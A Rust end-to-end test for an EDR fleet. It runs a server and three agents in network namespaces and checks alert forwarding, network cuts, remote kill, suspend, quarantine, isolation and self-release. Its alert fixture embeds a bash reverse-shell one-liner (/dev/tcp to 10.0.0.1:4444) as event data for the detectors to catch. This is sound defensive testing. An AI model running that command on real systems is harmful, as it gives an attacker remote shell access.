//! The fleet end to end, for real (root), with the real binaries: two
//! throw-away network namespaces joined by a veth pair; `edr server run`
//! (with its nats-server child) and agents B and C in one, agent A in the
//! other, each with its own data dir and its events on standard input.
//!
//! * all three enroll and come online; every alert of each reaches the
//!   server exactly once (the server's count and ids equal the host's record);
//! * a network cut (A's veth down) while A makes alerts loses none and
//!   duplicates none once the link is back;
//! * remote kill, suspend/resume and the socket listing on B; a file's
//!   hash and metadata, quarantine/restore on C, whose own
//!   policy (`[fleet] refuse = ["delete"]`) refuses a remote delete;
//! * A isolated cannot reach the server's API port but answers `ls` and
//!   `fetch` (the file is kept in the server's JetStream object store and
//!   downloads byte-exact); release restores its ruleset exactly;
//! * a hunt answers from all three; a storyline comes from A's record;
//! * A isolated and cut off from the fleet releases itself after its
//!   `isolation_fallback_secs` and says why in its next heartbeat;
//! * A stopped and its `events.db` deleted: the central record still answers
//!   a hunt over A's processes and the storyline of A's first alert.
//!
//! Pack rollout to three agents is `fleet_packs.rs`; forged, replayed,
//! expired and wrong-host commands, and host A publishing as host B, are
//! refused in `edr-fleet-link`'s tests against the same real NATS.
//! The namespaces (and with them the veth pair and the isolation table) are
//! removed even when the test fails; the only addresses used are inside them.

mod common;

use common::fleet::{fleet, host_id_of, hosts, in_ns, ip, make_net, on_path, reaches, spawn_logged, state_of, terminate, Cleanup, Net, EDR};
use edr_testkit::wait_until;
use std::path::{Path, PathBuf};
use std::process::{Child, Command};
use std::time::Duration;

/// The README's reverse-shell event, with its own pid: it raises alerts in the built-in plugins.
fn attack_line(pid: u32) -> String {
    format!(
        "{{\"event\":{{\"category\":[\"process\"],\"type\":[\"start\"]}},\"process\":{{\"pid\":{pid},\"executable\":\"/usr/bin/bash\",\"args\":[\"bash\",\"-c\",\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\"],\"parent\":{{\"pid\":{},\"executable\":\"/usr/sbin/nginx\"}}}}}}\n",
        pid + 1
    )
}

fn send(agent: &mut Child, lines: &str) {
    use std::io::Write;
    let stdin = agent.stdin.as_mut().unwrap();
    stdin.write_all(lines.as_bytes()).unwrap();
    stdin.flush().unwrap();
}

/// The alert ids of `host` at the server (sorted, duplicates kept).
fn server_alert_ids(ns: &str, dir: &Path, host: &str) -> Vec<u64> {
    let (_, out, _) = fleet(ns, dir, &["alerts", "--host", host, "--limit", "10000", "--json"]);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap_or_default();
    let mut ids: Vec<u64> = v.as_array().into_iter().flatten().filter_map(|a| a["alert_id"].as_u64()).collect();
    ids.sort_unstable();
    ids
}

/// The alert ids in a host's own record.
fn record_alert_ids(data: &Path) -> Vec<u64> {
    let out = Command::new(EDR).args(["query", "--data-dir", data.to_str().unwrap(), "--json", "SELECT id FROM alert ORDER BY id"]).output().unwrap();
    String::from_utf8_lossy(&out.stdout).lines().filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok()?["id"].as_u64()).collect()
}

/// The process state letter in /proc/PID/stat (R, S, T, Z, ...).
fn proc_state(pid: u32) -> char {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
    stat.rsplit_once(") ").and_then(|(_, rest)| rest.chars().next()).unwrap_or('?')
}

/// One agent's files: config (stdin events, built-in plugins, a short isolation fallback) and data dir.
fn agent_files(work: &Path, name: &str, extra_fleet: &str) -> (PathBuf, PathBuf) {
    let data = work.join(format!("data-{name}"));
    let config = work.join(format!("edr-{name}.toml"));
    let text = format!("data_dir = {data:?}\n[collect]\nsource = \"stdin\"\n[output]\nstdout = false\n[fleet]\nisolation_fallback_secs = 6\n{extra_fleet}\n");
    std::fs::write(&config, text).unwrap();
    (config, data)
}

#[test]
fn three_agents_report_respond_and_survive_cuts_and_isolation() {
    edr_testkit::require_root!("network namespaces and nftables");
    for tool in ["nats-server", "nft", "ip", "bash", "timeout", "sleep"] {
        if !on_path(tool) {
            edr_testkit::skip(format!("{tool} not on PATH"));
            return;
        }
    }
    let mut cleanup = Cleanup::default();
    let net = make_net(&mut cleanup);
    let (ans, sns) = (net.agent_ns.as_str(), net.server_ns.as_str());
    let work = tempfile::tempdir().unwrap();
    let dir: PathBuf = work.path().join("fleet");
    let (nats, api) = (format!("{}:4222", net.server_ip), format!("{}:8480", net.server_ip));
    let out = in_ns(sns, &[EDR, "server", "init", "--dir", dir.to_str().unwrap(), "--nats-listen", &nats, "--listen", &api, "--heartbeat-secs", "1"]);
    assert!(out.status.success(), "server init: {}", String::from_utf8_lossy(&out.stderr));
    let server_log = work.path().join("server.log");
    cleanup.children.push(spawn_logged(sns, &[EDR, "server", "run", "--dir", dir.to_str().unwrap()], &server_log));
    let log = |p: &Path| std::fs::read_to_string(p).unwrap_or_default();
    assert!(wait_until(Duration::from_secs(30), || fleet(sns, &dir, &["hosts"]).0), "the server's API answers: {}", log(&server_log));

    // Enroll: A in its own namespace, B and C beside the server; C refuses remote deletes.
    let mut data = Vec::new();
    for (name, ns, extra) in [("a", ans, ""), ("b", sns, ""), ("c", sns, "refuse = [\"delete\"]")] {
        let (ok, token, err) = fleet(sns, &dir, &["enroll-token", "--ttl", "10m"]);
        assert!(ok, "{err}");
        let (config, d) = agent_files(work.path(), name, extra);
        let agent_log = work.path().join(format!("agent-{name}.log"));
        cleanup.children.push(spawn_logged(ns, &[EDR, "agent", "--config", config.to_str().unwrap(), "--enroll", token.trim()], &agent_log));
        data.push((d, agent_log));
    }
    let online = || hosts(sns, &dir).iter().filter(|h| h["state"] == "online").count();
    assert!(wait_until(Duration::from_secs(60), || online() == 3), "three hosts online: {:?}\nA: {}", hosts(sns, &dir), log(&data[0].1));
    // Host ids by data dir (each identity file names its host).
    let (ha, hb, hc) = (host_id_of(&data[0].0), host_id_of(&data[1].0), host_id_of(&data[2].0));

    // Alerts from each host arrive exactly once.
    for (i, pid) in [(0usize, 1000u32), (1, 2000), (2, 3000)] {
        let agent = &mut cleanup.children[1 + i];
        send(agent, &(attack_line(pid) + &attack_line(pid + 10)));
    }
    for (i, host) in [&ha, &hb, &hc].into_iter().enumerate() {
        let arrived = wait_until(Duration::from_secs(30), || {
            let local = record_alert_ids(&data[i].0);
            local.len() >= 2 && server_alert_ids(sns, &dir, host) == local
        });
        assert!(arrived, "host {host}: server {:?}, record {:?}", server_alert_ids(sns, &dir, host), record_alert_ids(&data[i].0));
    }

    // A network cut: A's link goes down, A makes alerts, the link comes back: none lost, none twice.
    let before_cut = record_alert_ids(&data[0].0).len();
    ip(&["-n", ans, "link", "set", &net.agent_if, "down"]);
    assert!(wait_until(Duration::from_secs(20), || state_of(sns, &dir, &ha) == "offline"), "A is offline at the server during the cut");
    send(&mut cleanup.children[1], &(attack_line(1100) + &attack_line(1110)));
    assert!(wait_until(Duration::from_secs(15), || record_alert_ids(&data[0].0).len() >= before_cut + 2), "A records its alerts during the cut");
    assert!(server_alert_ids(sns, &dir, &ha).len() == before_cut, "nothing reached the server through the cut");
    ip(&["-n", ans, "link", "set", &net.agent_if, "up"]);
    assert!(
        wait_until(Duration::from_secs(60), || server_alert_ids(sns, &dir, &ha) == record_alert_ids(&data[0].0)),
        "after the cut every alert of A arrives once: server {:?}, record {:?}\nA: {}",
        server_alert_ids(sns, &dir, &ha),
        record_alert_ids(&data[0].0),
        log(&data[0].1)
    );
    std::thread::sleep(Duration::from_secs(2));
    assert_eq!(server_alert_ids(sns, &dir, &ha), record_alert_ids(&data[0].0), "and nothing twice");
    assert!(wait_until(Duration::from_secs(20), || state_of(sns, &dir, &ha) == "online"), "A is online again");
    link_status_shows_the_forwarding(&data[0].0, &ha);

    remote_processes(sns, &dir, &hb, &mut cleanup);
    remote_files(sns, &dir, &hc, work.path());
    isolate_and_release(&net, &dir, &ha, work.path(), &data[0].0);

    // A hunt answers from all three; A's storyline comes from its record.
    let (ok, out, err) = fleet(sns, &dir, &["query", "SELECT count(*) AS n FROM alert", "--json"]);
    assert!(ok, "hunt: {out} {err}");
    let hunt: serde_json::Value = serde_json::from_str(&out).unwrap();
    let answered: Vec<&str> = hunt["rows"].as_array().unwrap().iter().filter_map(|r| r[0].as_str()).collect();
    for h in [&ha, &hb, &hc] {
        assert!(answered.contains(&h.as_str()), "host {h} answered the hunt: {hunt}");
    }
    let first = record_alert_ids(&data[0].0)[0];
    let (ok, out, err) = fleet(sns, &dir, &["storyline", &format!("{ha}:{first}")]);
    assert!(ok, "storyline: {err}");
    let story: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(story["alert"]["id"].as_u64(), Some(first), "{story}");
    assert!(story["processes"].as_array().is_some_and(|p| !p.is_empty()), "the storyline has its process tree: {story}");

    self_release(&net, &dir, &ha, &data[0].0);
    central_record(sns, &dir, &ha, &data[0].0, &mut cleanup.children[1]);

    let namespaces = cleanup.netns.clone();
    drop(cleanup);
    let listed = String::from_utf8_lossy(&Command::new("ip").args(["netns", "list"]).output().unwrap().stdout).into_owned();
    assert!(namespaces.iter().all(|ns| !listed.split_whitespace().any(|n| n == ns)), "namespaces removed: {listed}");
}

/// `edr status` on the host shows its fleet link: connected, and the cursor at its newest alert.
fn link_status_shows_the_forwarding(data: &Path, host: &str) {
    let newest = *record_alert_ids(data).last().unwrap();
    let status = || -> serde_json::Value {
        let out = Command::new(EDR).args(["status", "--json", "--data-dir", data.to_str().unwrap()]).output().unwrap();
        serde_json::from_slice(&out.stdout).unwrap_or_default()
    };
    let caught_up = wait_until(Duration::from_secs(10), || {
        let f = &status()["fleet"];
        f["connected"] == true && f["alert_cursor"].as_u64() == Some(newest)
    });
    let s = status();
    assert!(caught_up, "status shows the link connected with cursor {newest}: {}", s["fleet"]);
    assert_eq!(s["fleet"]["host_id"].as_str(), Some(host), "{}", s["fleet"]);
    assert!(s["fleet"]["alerts_forwarded"].as_u64().unwrap_or(0) >= 2, "{}", s["fleet"]);
    assert!(s["fleet"]["heartbeats"].as_u64().unwrap_or(0) >= 1, "{}", s["fleet"]);
    let text = Command::new(EDR).args(["status", "--data-dir", data.to_str().unwrap()]).output().unwrap();
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(text.contains(&format!("fleet: host {host}, connected; alerts forwarded")), "{text}");
}

/// A stopped, its record deleted by an "attacker": the centre still answers A's hunt and storyline.
fn central_record(sns: &str, dir: &Path, host: &str, data: &Path, agent: &mut Child) {
    let execs = Command::new(EDR).args(["query", "--data-dir", data.to_str().unwrap(), "--json", "SELECT count(*) AS n FROM process"]).output().unwrap();
    let local: u64 = serde_json::from_slice::<serde_json::Value>(&execs.stdout).ok().and_then(|v| v["n"].as_u64()).unwrap_or(0);
    assert!(local >= 4, "A recorded its execs: {}", String::from_utf8_lossy(&execs.stdout));
    let at_centre = || -> u64 {
        let (_, out, _) = fleet(sns, dir, &["query", "SELECT count(*) AS n FROM process", "--central", "--hosts", host, "--json"]);
        serde_json::from_str::<serde_json::Value>(&out).ok().and_then(|v| v["rows"][0][1].as_u64()).unwrap_or(0)
    };
    assert!(wait_until(Duration::from_secs(30), || at_centre() == local), "the centre has A's {local} execs: {}", at_centre());
    terminate(agent.id());
    assert!(wait_until(Duration::from_secs(10), || agent.try_wait().ok().flatten().is_some()), "A stopped");
    for f in ["events.db", "events.db-wal", "events.db-shm"] {
        let _ = std::fs::remove_file(data.join(f));
    }
    assert!(wait_until(Duration::from_secs(20), || state_of(sns, dir, host) == "offline"), "A is offline");
    assert_eq!(at_centre(), local, "A offline and its record gone: the centre answers");
    let (_, alerts, _) = fleet(sns, dir, &["alerts", "--host", host, "--json"]);
    let first = serde_json::from_str::<serde_json::Value>(&alerts).unwrap().as_array().unwrap().iter().filter_map(|a| a["alert_id"].as_u64()).min().unwrap();
    let (ok, out, err) = fleet(sns, dir, &["storyline", &format!("{host}:{first}"), "--central"]);
    assert!(ok && err.contains("central record"), "storyline at the centre: {out} {err}");
    let story: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(story["alert"]["id"].as_u64(), Some(first), "{story}");
    assert!(story["processes"].as_array().is_some_and(|p| !p.is_empty()), "the attack's process tree, from the centre: {story}");
}

/// Kill, suspend and resume of processes on host B (in the server's namespace).
fn remote_processes(sns: &str, dir: &Path, host: &str, cleanup: &mut Cleanup) {
    let victim = Command::new("sleep").arg("600").spawn().unwrap();
    let pid = victim.id();
    cleanup.children.push(victim);
    let (ok, out, err) = fleet(sns, dir, &["kill", host, &pid.to_string(), "--reason", "case 9: implant"]);
    assert!(ok, "kill: {out} {err}");
    // The test is its parent and has not reaped it: killed, it is a zombie.
    assert!(wait_until(Duration::from_secs(5), || proc_state(pid) == 'Z'), "the process was killed: state {}", proc_state(pid));
    let sleeper = Command::new("sleep").arg("600").spawn().unwrap();
    let pid = sleeper.id();
    cleanup.children.push(sleeper);
    let (ok, out, err) = fleet(sns, dir, &["suspend", host, &pid.to_string(), "--reason", "case 9: hold for memory capture"]);
    assert!(ok, "suspend: {out} {err}");
    assert!(wait_until(Duration::from_secs(5), || proc_state(pid) == 'T'), "suspended: state {}", proc_state(pid));
    let (ok, out, err) = fleet(sns, dir, &["resume", host, &pid.to_string(), "--reason", "case 9: captured"]);
    assert!(ok, "resume: {out} {err}");
    assert!(wait_until(Duration::from_secs(5), || proc_state(pid) == 'S'), "resumed: state {}", proc_state(pid));
    // The live socket listing: B's own connection to the fleet's NATS, with B's pid.
    let (ok, out, err) = fleet(sns, dir, &["connections", host, "--json"]);
    assert!(ok, "connections: {err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    let agent_pid = cleanup.children[2].id();
    let to_nats =
        v["connections"].as_array().unwrap().iter().any(|c| {
            c["state"] == "ESTABLISHED" && c["remote"].as_str().is_some_and(|r| r.ends_with(":4222")) && c["pid"].as_u64() == Some(u64::from(agent_pid))
        });
    assert!(to_nats, "B's NATS connection is listed with its pid {agent_pid}: {v}");
}

/// Quarantine and restore on host C; its own policy refuses a remote delete.
fn remote_files(sns: &str, dir: &Path, host: &str, work: &Path) {
    let file = work.join("dropper.bin");
    std::fs::write(&file, b"\x7fELF not really").unwrap();
    let path = file.to_str().unwrap();
    let (ok, out, err) = fleet(sns, dir, &["ls", host, path]);
    assert!(ok && out.contains("\"file\": true") && out.contains("\"sha256\""), "ls of a file: its hash and metadata: {out} {err}");
    let (ok, out, err) = fleet(sns, dir, &["quarantine", host, path, "--reason", "case 9: dropper"]);
    assert!(ok && !file.exists(), "quarantine: {out} {err}");
    let (ok, out, err) = fleet(sns, dir, &["restore", host, path, "--reason", "case 9: false positive"]);
    assert!(ok, "restore: {out} {err}");
    assert_eq!(std::fs::read(&file).unwrap(), b"\x7fELF not really", "restored byte-exact");
    let (ok, out, err) = fleet(sns, dir, &["delete", host, path, "--reason", "case 9: cleanup"]);
    assert!(!ok && format!("{out}{err}").contains("policy refuses `delete`"), "C's own policy refuses deletes: {out} {err}");
    assert!(file.exists(), "the refused delete deleted nothing");
}

/// A isolated: the server's API port is cut, NATS kept; ls and fetch work; release restores the ruleset.
fn isolate_and_release(net: &Net, dir: &Path, host: &str, work: &Path, data: &Path) {
    let (ans, sns) = (net.agent_ns.as_str(), net.server_ns.as_str());
    let ruleset = || String::from_utf8_lossy(&in_ns(ans, &["nft", "list", "ruleset"]).stdout).into_owned();
    let before = ruleset();
    assert!(reaches(ans, &net.server_ip, 8480), "before isolation A reaches the server's API port");
    let (ok, out, err) = fleet(sns, dir, &["isolate", host, "--reason", "case 9: beaconing"]);
    assert!(ok, "isolate: {out} {err}");
    assert!(!reaches(ans, &net.server_ip, 8480), "isolated: the server's API port (not NATS) is unreachable");
    let (ok, out, err) = fleet(sns, dir, &["ls", host, "/"]);
    assert!(ok && out.contains("\"entries\""), "an isolated host still answers: {out} {err}");
    let wanted = work.join("evidence.txt");
    std::fs::write(&wanted, b"line 1\nline 2\x00\xff\n").unwrap();
    let got = work.join("got.txt");
    let (ok, _, err) = fleet(sns, dir, &["fetch", host, wanted.to_str().unwrap(), "-o", got.to_str().unwrap(), "--reason", "case 9 evidence"]);
    assert!(ok && err.contains("sha256"), "fetch from an isolated host: {err}");
    assert_eq!(std::fs::read(&got).unwrap(), std::fs::read(&wanted).unwrap(), "fetched byte-exact");
    assert!(err.contains("kept at the server as evidence"), "{err}");
    // The server kept it in the JetStream object store: listed, and downloadable byte-exact.
    let (ok, out, e) = fleet(sns, dir, &["evidence", "list", "--json"]);
    assert!(ok, "evidence list: {e}");
    let kept: serde_json::Value = serde_json::from_str(&out).unwrap();
    let entry = kept.as_array().unwrap().iter().find(|x| x["path"] == wanted.to_str().unwrap()).unwrap_or_else(|| panic!("listed: {kept}")).clone();
    assert_eq!(entry["host"], host);
    let again = work.join("again.txt");
    let (ok, _, e) = fleet(sns, dir, &["evidence", "get", host, entry["command_id"].as_str().unwrap(), "-o", again.to_str().unwrap()]);
    assert!(ok && e.contains(entry["sha256"].as_str().unwrap()), "evidence get: {e}");
    assert_eq!(std::fs::read(&again).unwrap(), std::fs::read(&wanted).unwrap(), "downloaded from the object store byte-exact");
    assert!(wait_until(Duration::from_secs(15), || state_of(sns, dir, host) == "isolated"), "the heartbeat says isolated");
    let rules = String::from_utf8_lossy(&in_ns(ans, &["nft", "list", "table", "inet", "edr_isolation"]).stdout).into_owned();
    assert!(rules.contains(&net.server_ip) && rules.contains("4222"), "the NATS endpoint is in the allowlist: {rules}");
    let (ok, out, err) = fleet(sns, dir, &["release", host, "--reason", "case 9 closed"]);
    assert!(ok, "release: {out} {err}");
    assert_eq!(ruleset(), before, "release restores the ruleset exactly");
    assert!(reaches(ans, &net.server_ip, 8480), "released: reachable again");
    assert!(wait_until(Duration::from_secs(15), || state_of(sns, dir, host) == "online"), "online again");
    let journal = std::fs::read_to_string(data.join("actions.jsonl")).unwrap_or_default();
    assert!(journal.contains("isolate-host") && journal.contains("case 9: beaconing") && journal.contains("release-host"), "{journal}");
}

/// A isolated, then cut off from the fleet: it releases itself after its fallback and says why.
fn self_release(net: &Net, dir: &Path, host: &str, data: &Path) {
    let (ans, sns) = (net.agent_ns.as_str(), net.server_ns.as_str());
    let isolated = || in_ns(ans, &["nft", "list", "table", "inet", "edr_isolation"]).status.success();
    let (ok, out, err) = fleet(sns, dir, &["isolate", host, "--reason", "case 10: lateral movement"]);
    assert!(ok && isolated(), "isolate: {out} {err}");
    ip(&["-n", ans, "link", "set", &net.agent_if, "down"]);
    // Two missed pings (1 s apart) take the link down, then 6 s of fallback.
    assert!(wait_until(Duration::from_secs(45), || !isolated()), "A released itself once the fleet was unreachable");
    ip(&["-n", ans, "link", "set", &net.agent_if, "up"]);
    let said = || hosts(sns, dir).iter().find(|h| h["host_id"] == host).and_then(|h| h["heartbeat"]["self_release"]["reason"].as_str().map(String::from));
    assert!(wait_until(Duration::from_secs(90), || said().is_some() && state_of(sns, dir, host) == "online"), "A reports it: {:?}", said());
    assert!(said().unwrap().contains("isolation fallback"), "{:?}", said());
    let (_, table, _) = fleet(sns, dir, &["hosts"]);
    assert!(table.contains("released itself from isolation"), "{table}");
    let journal = std::fs::read_to_string(data.join("actions.jsonl")).unwrap_or_default();
    assert!(journal.lines().last().is_some_and(|l| l.contains("release-host") && l.contains("isolation fallback")), "{journal}");
}
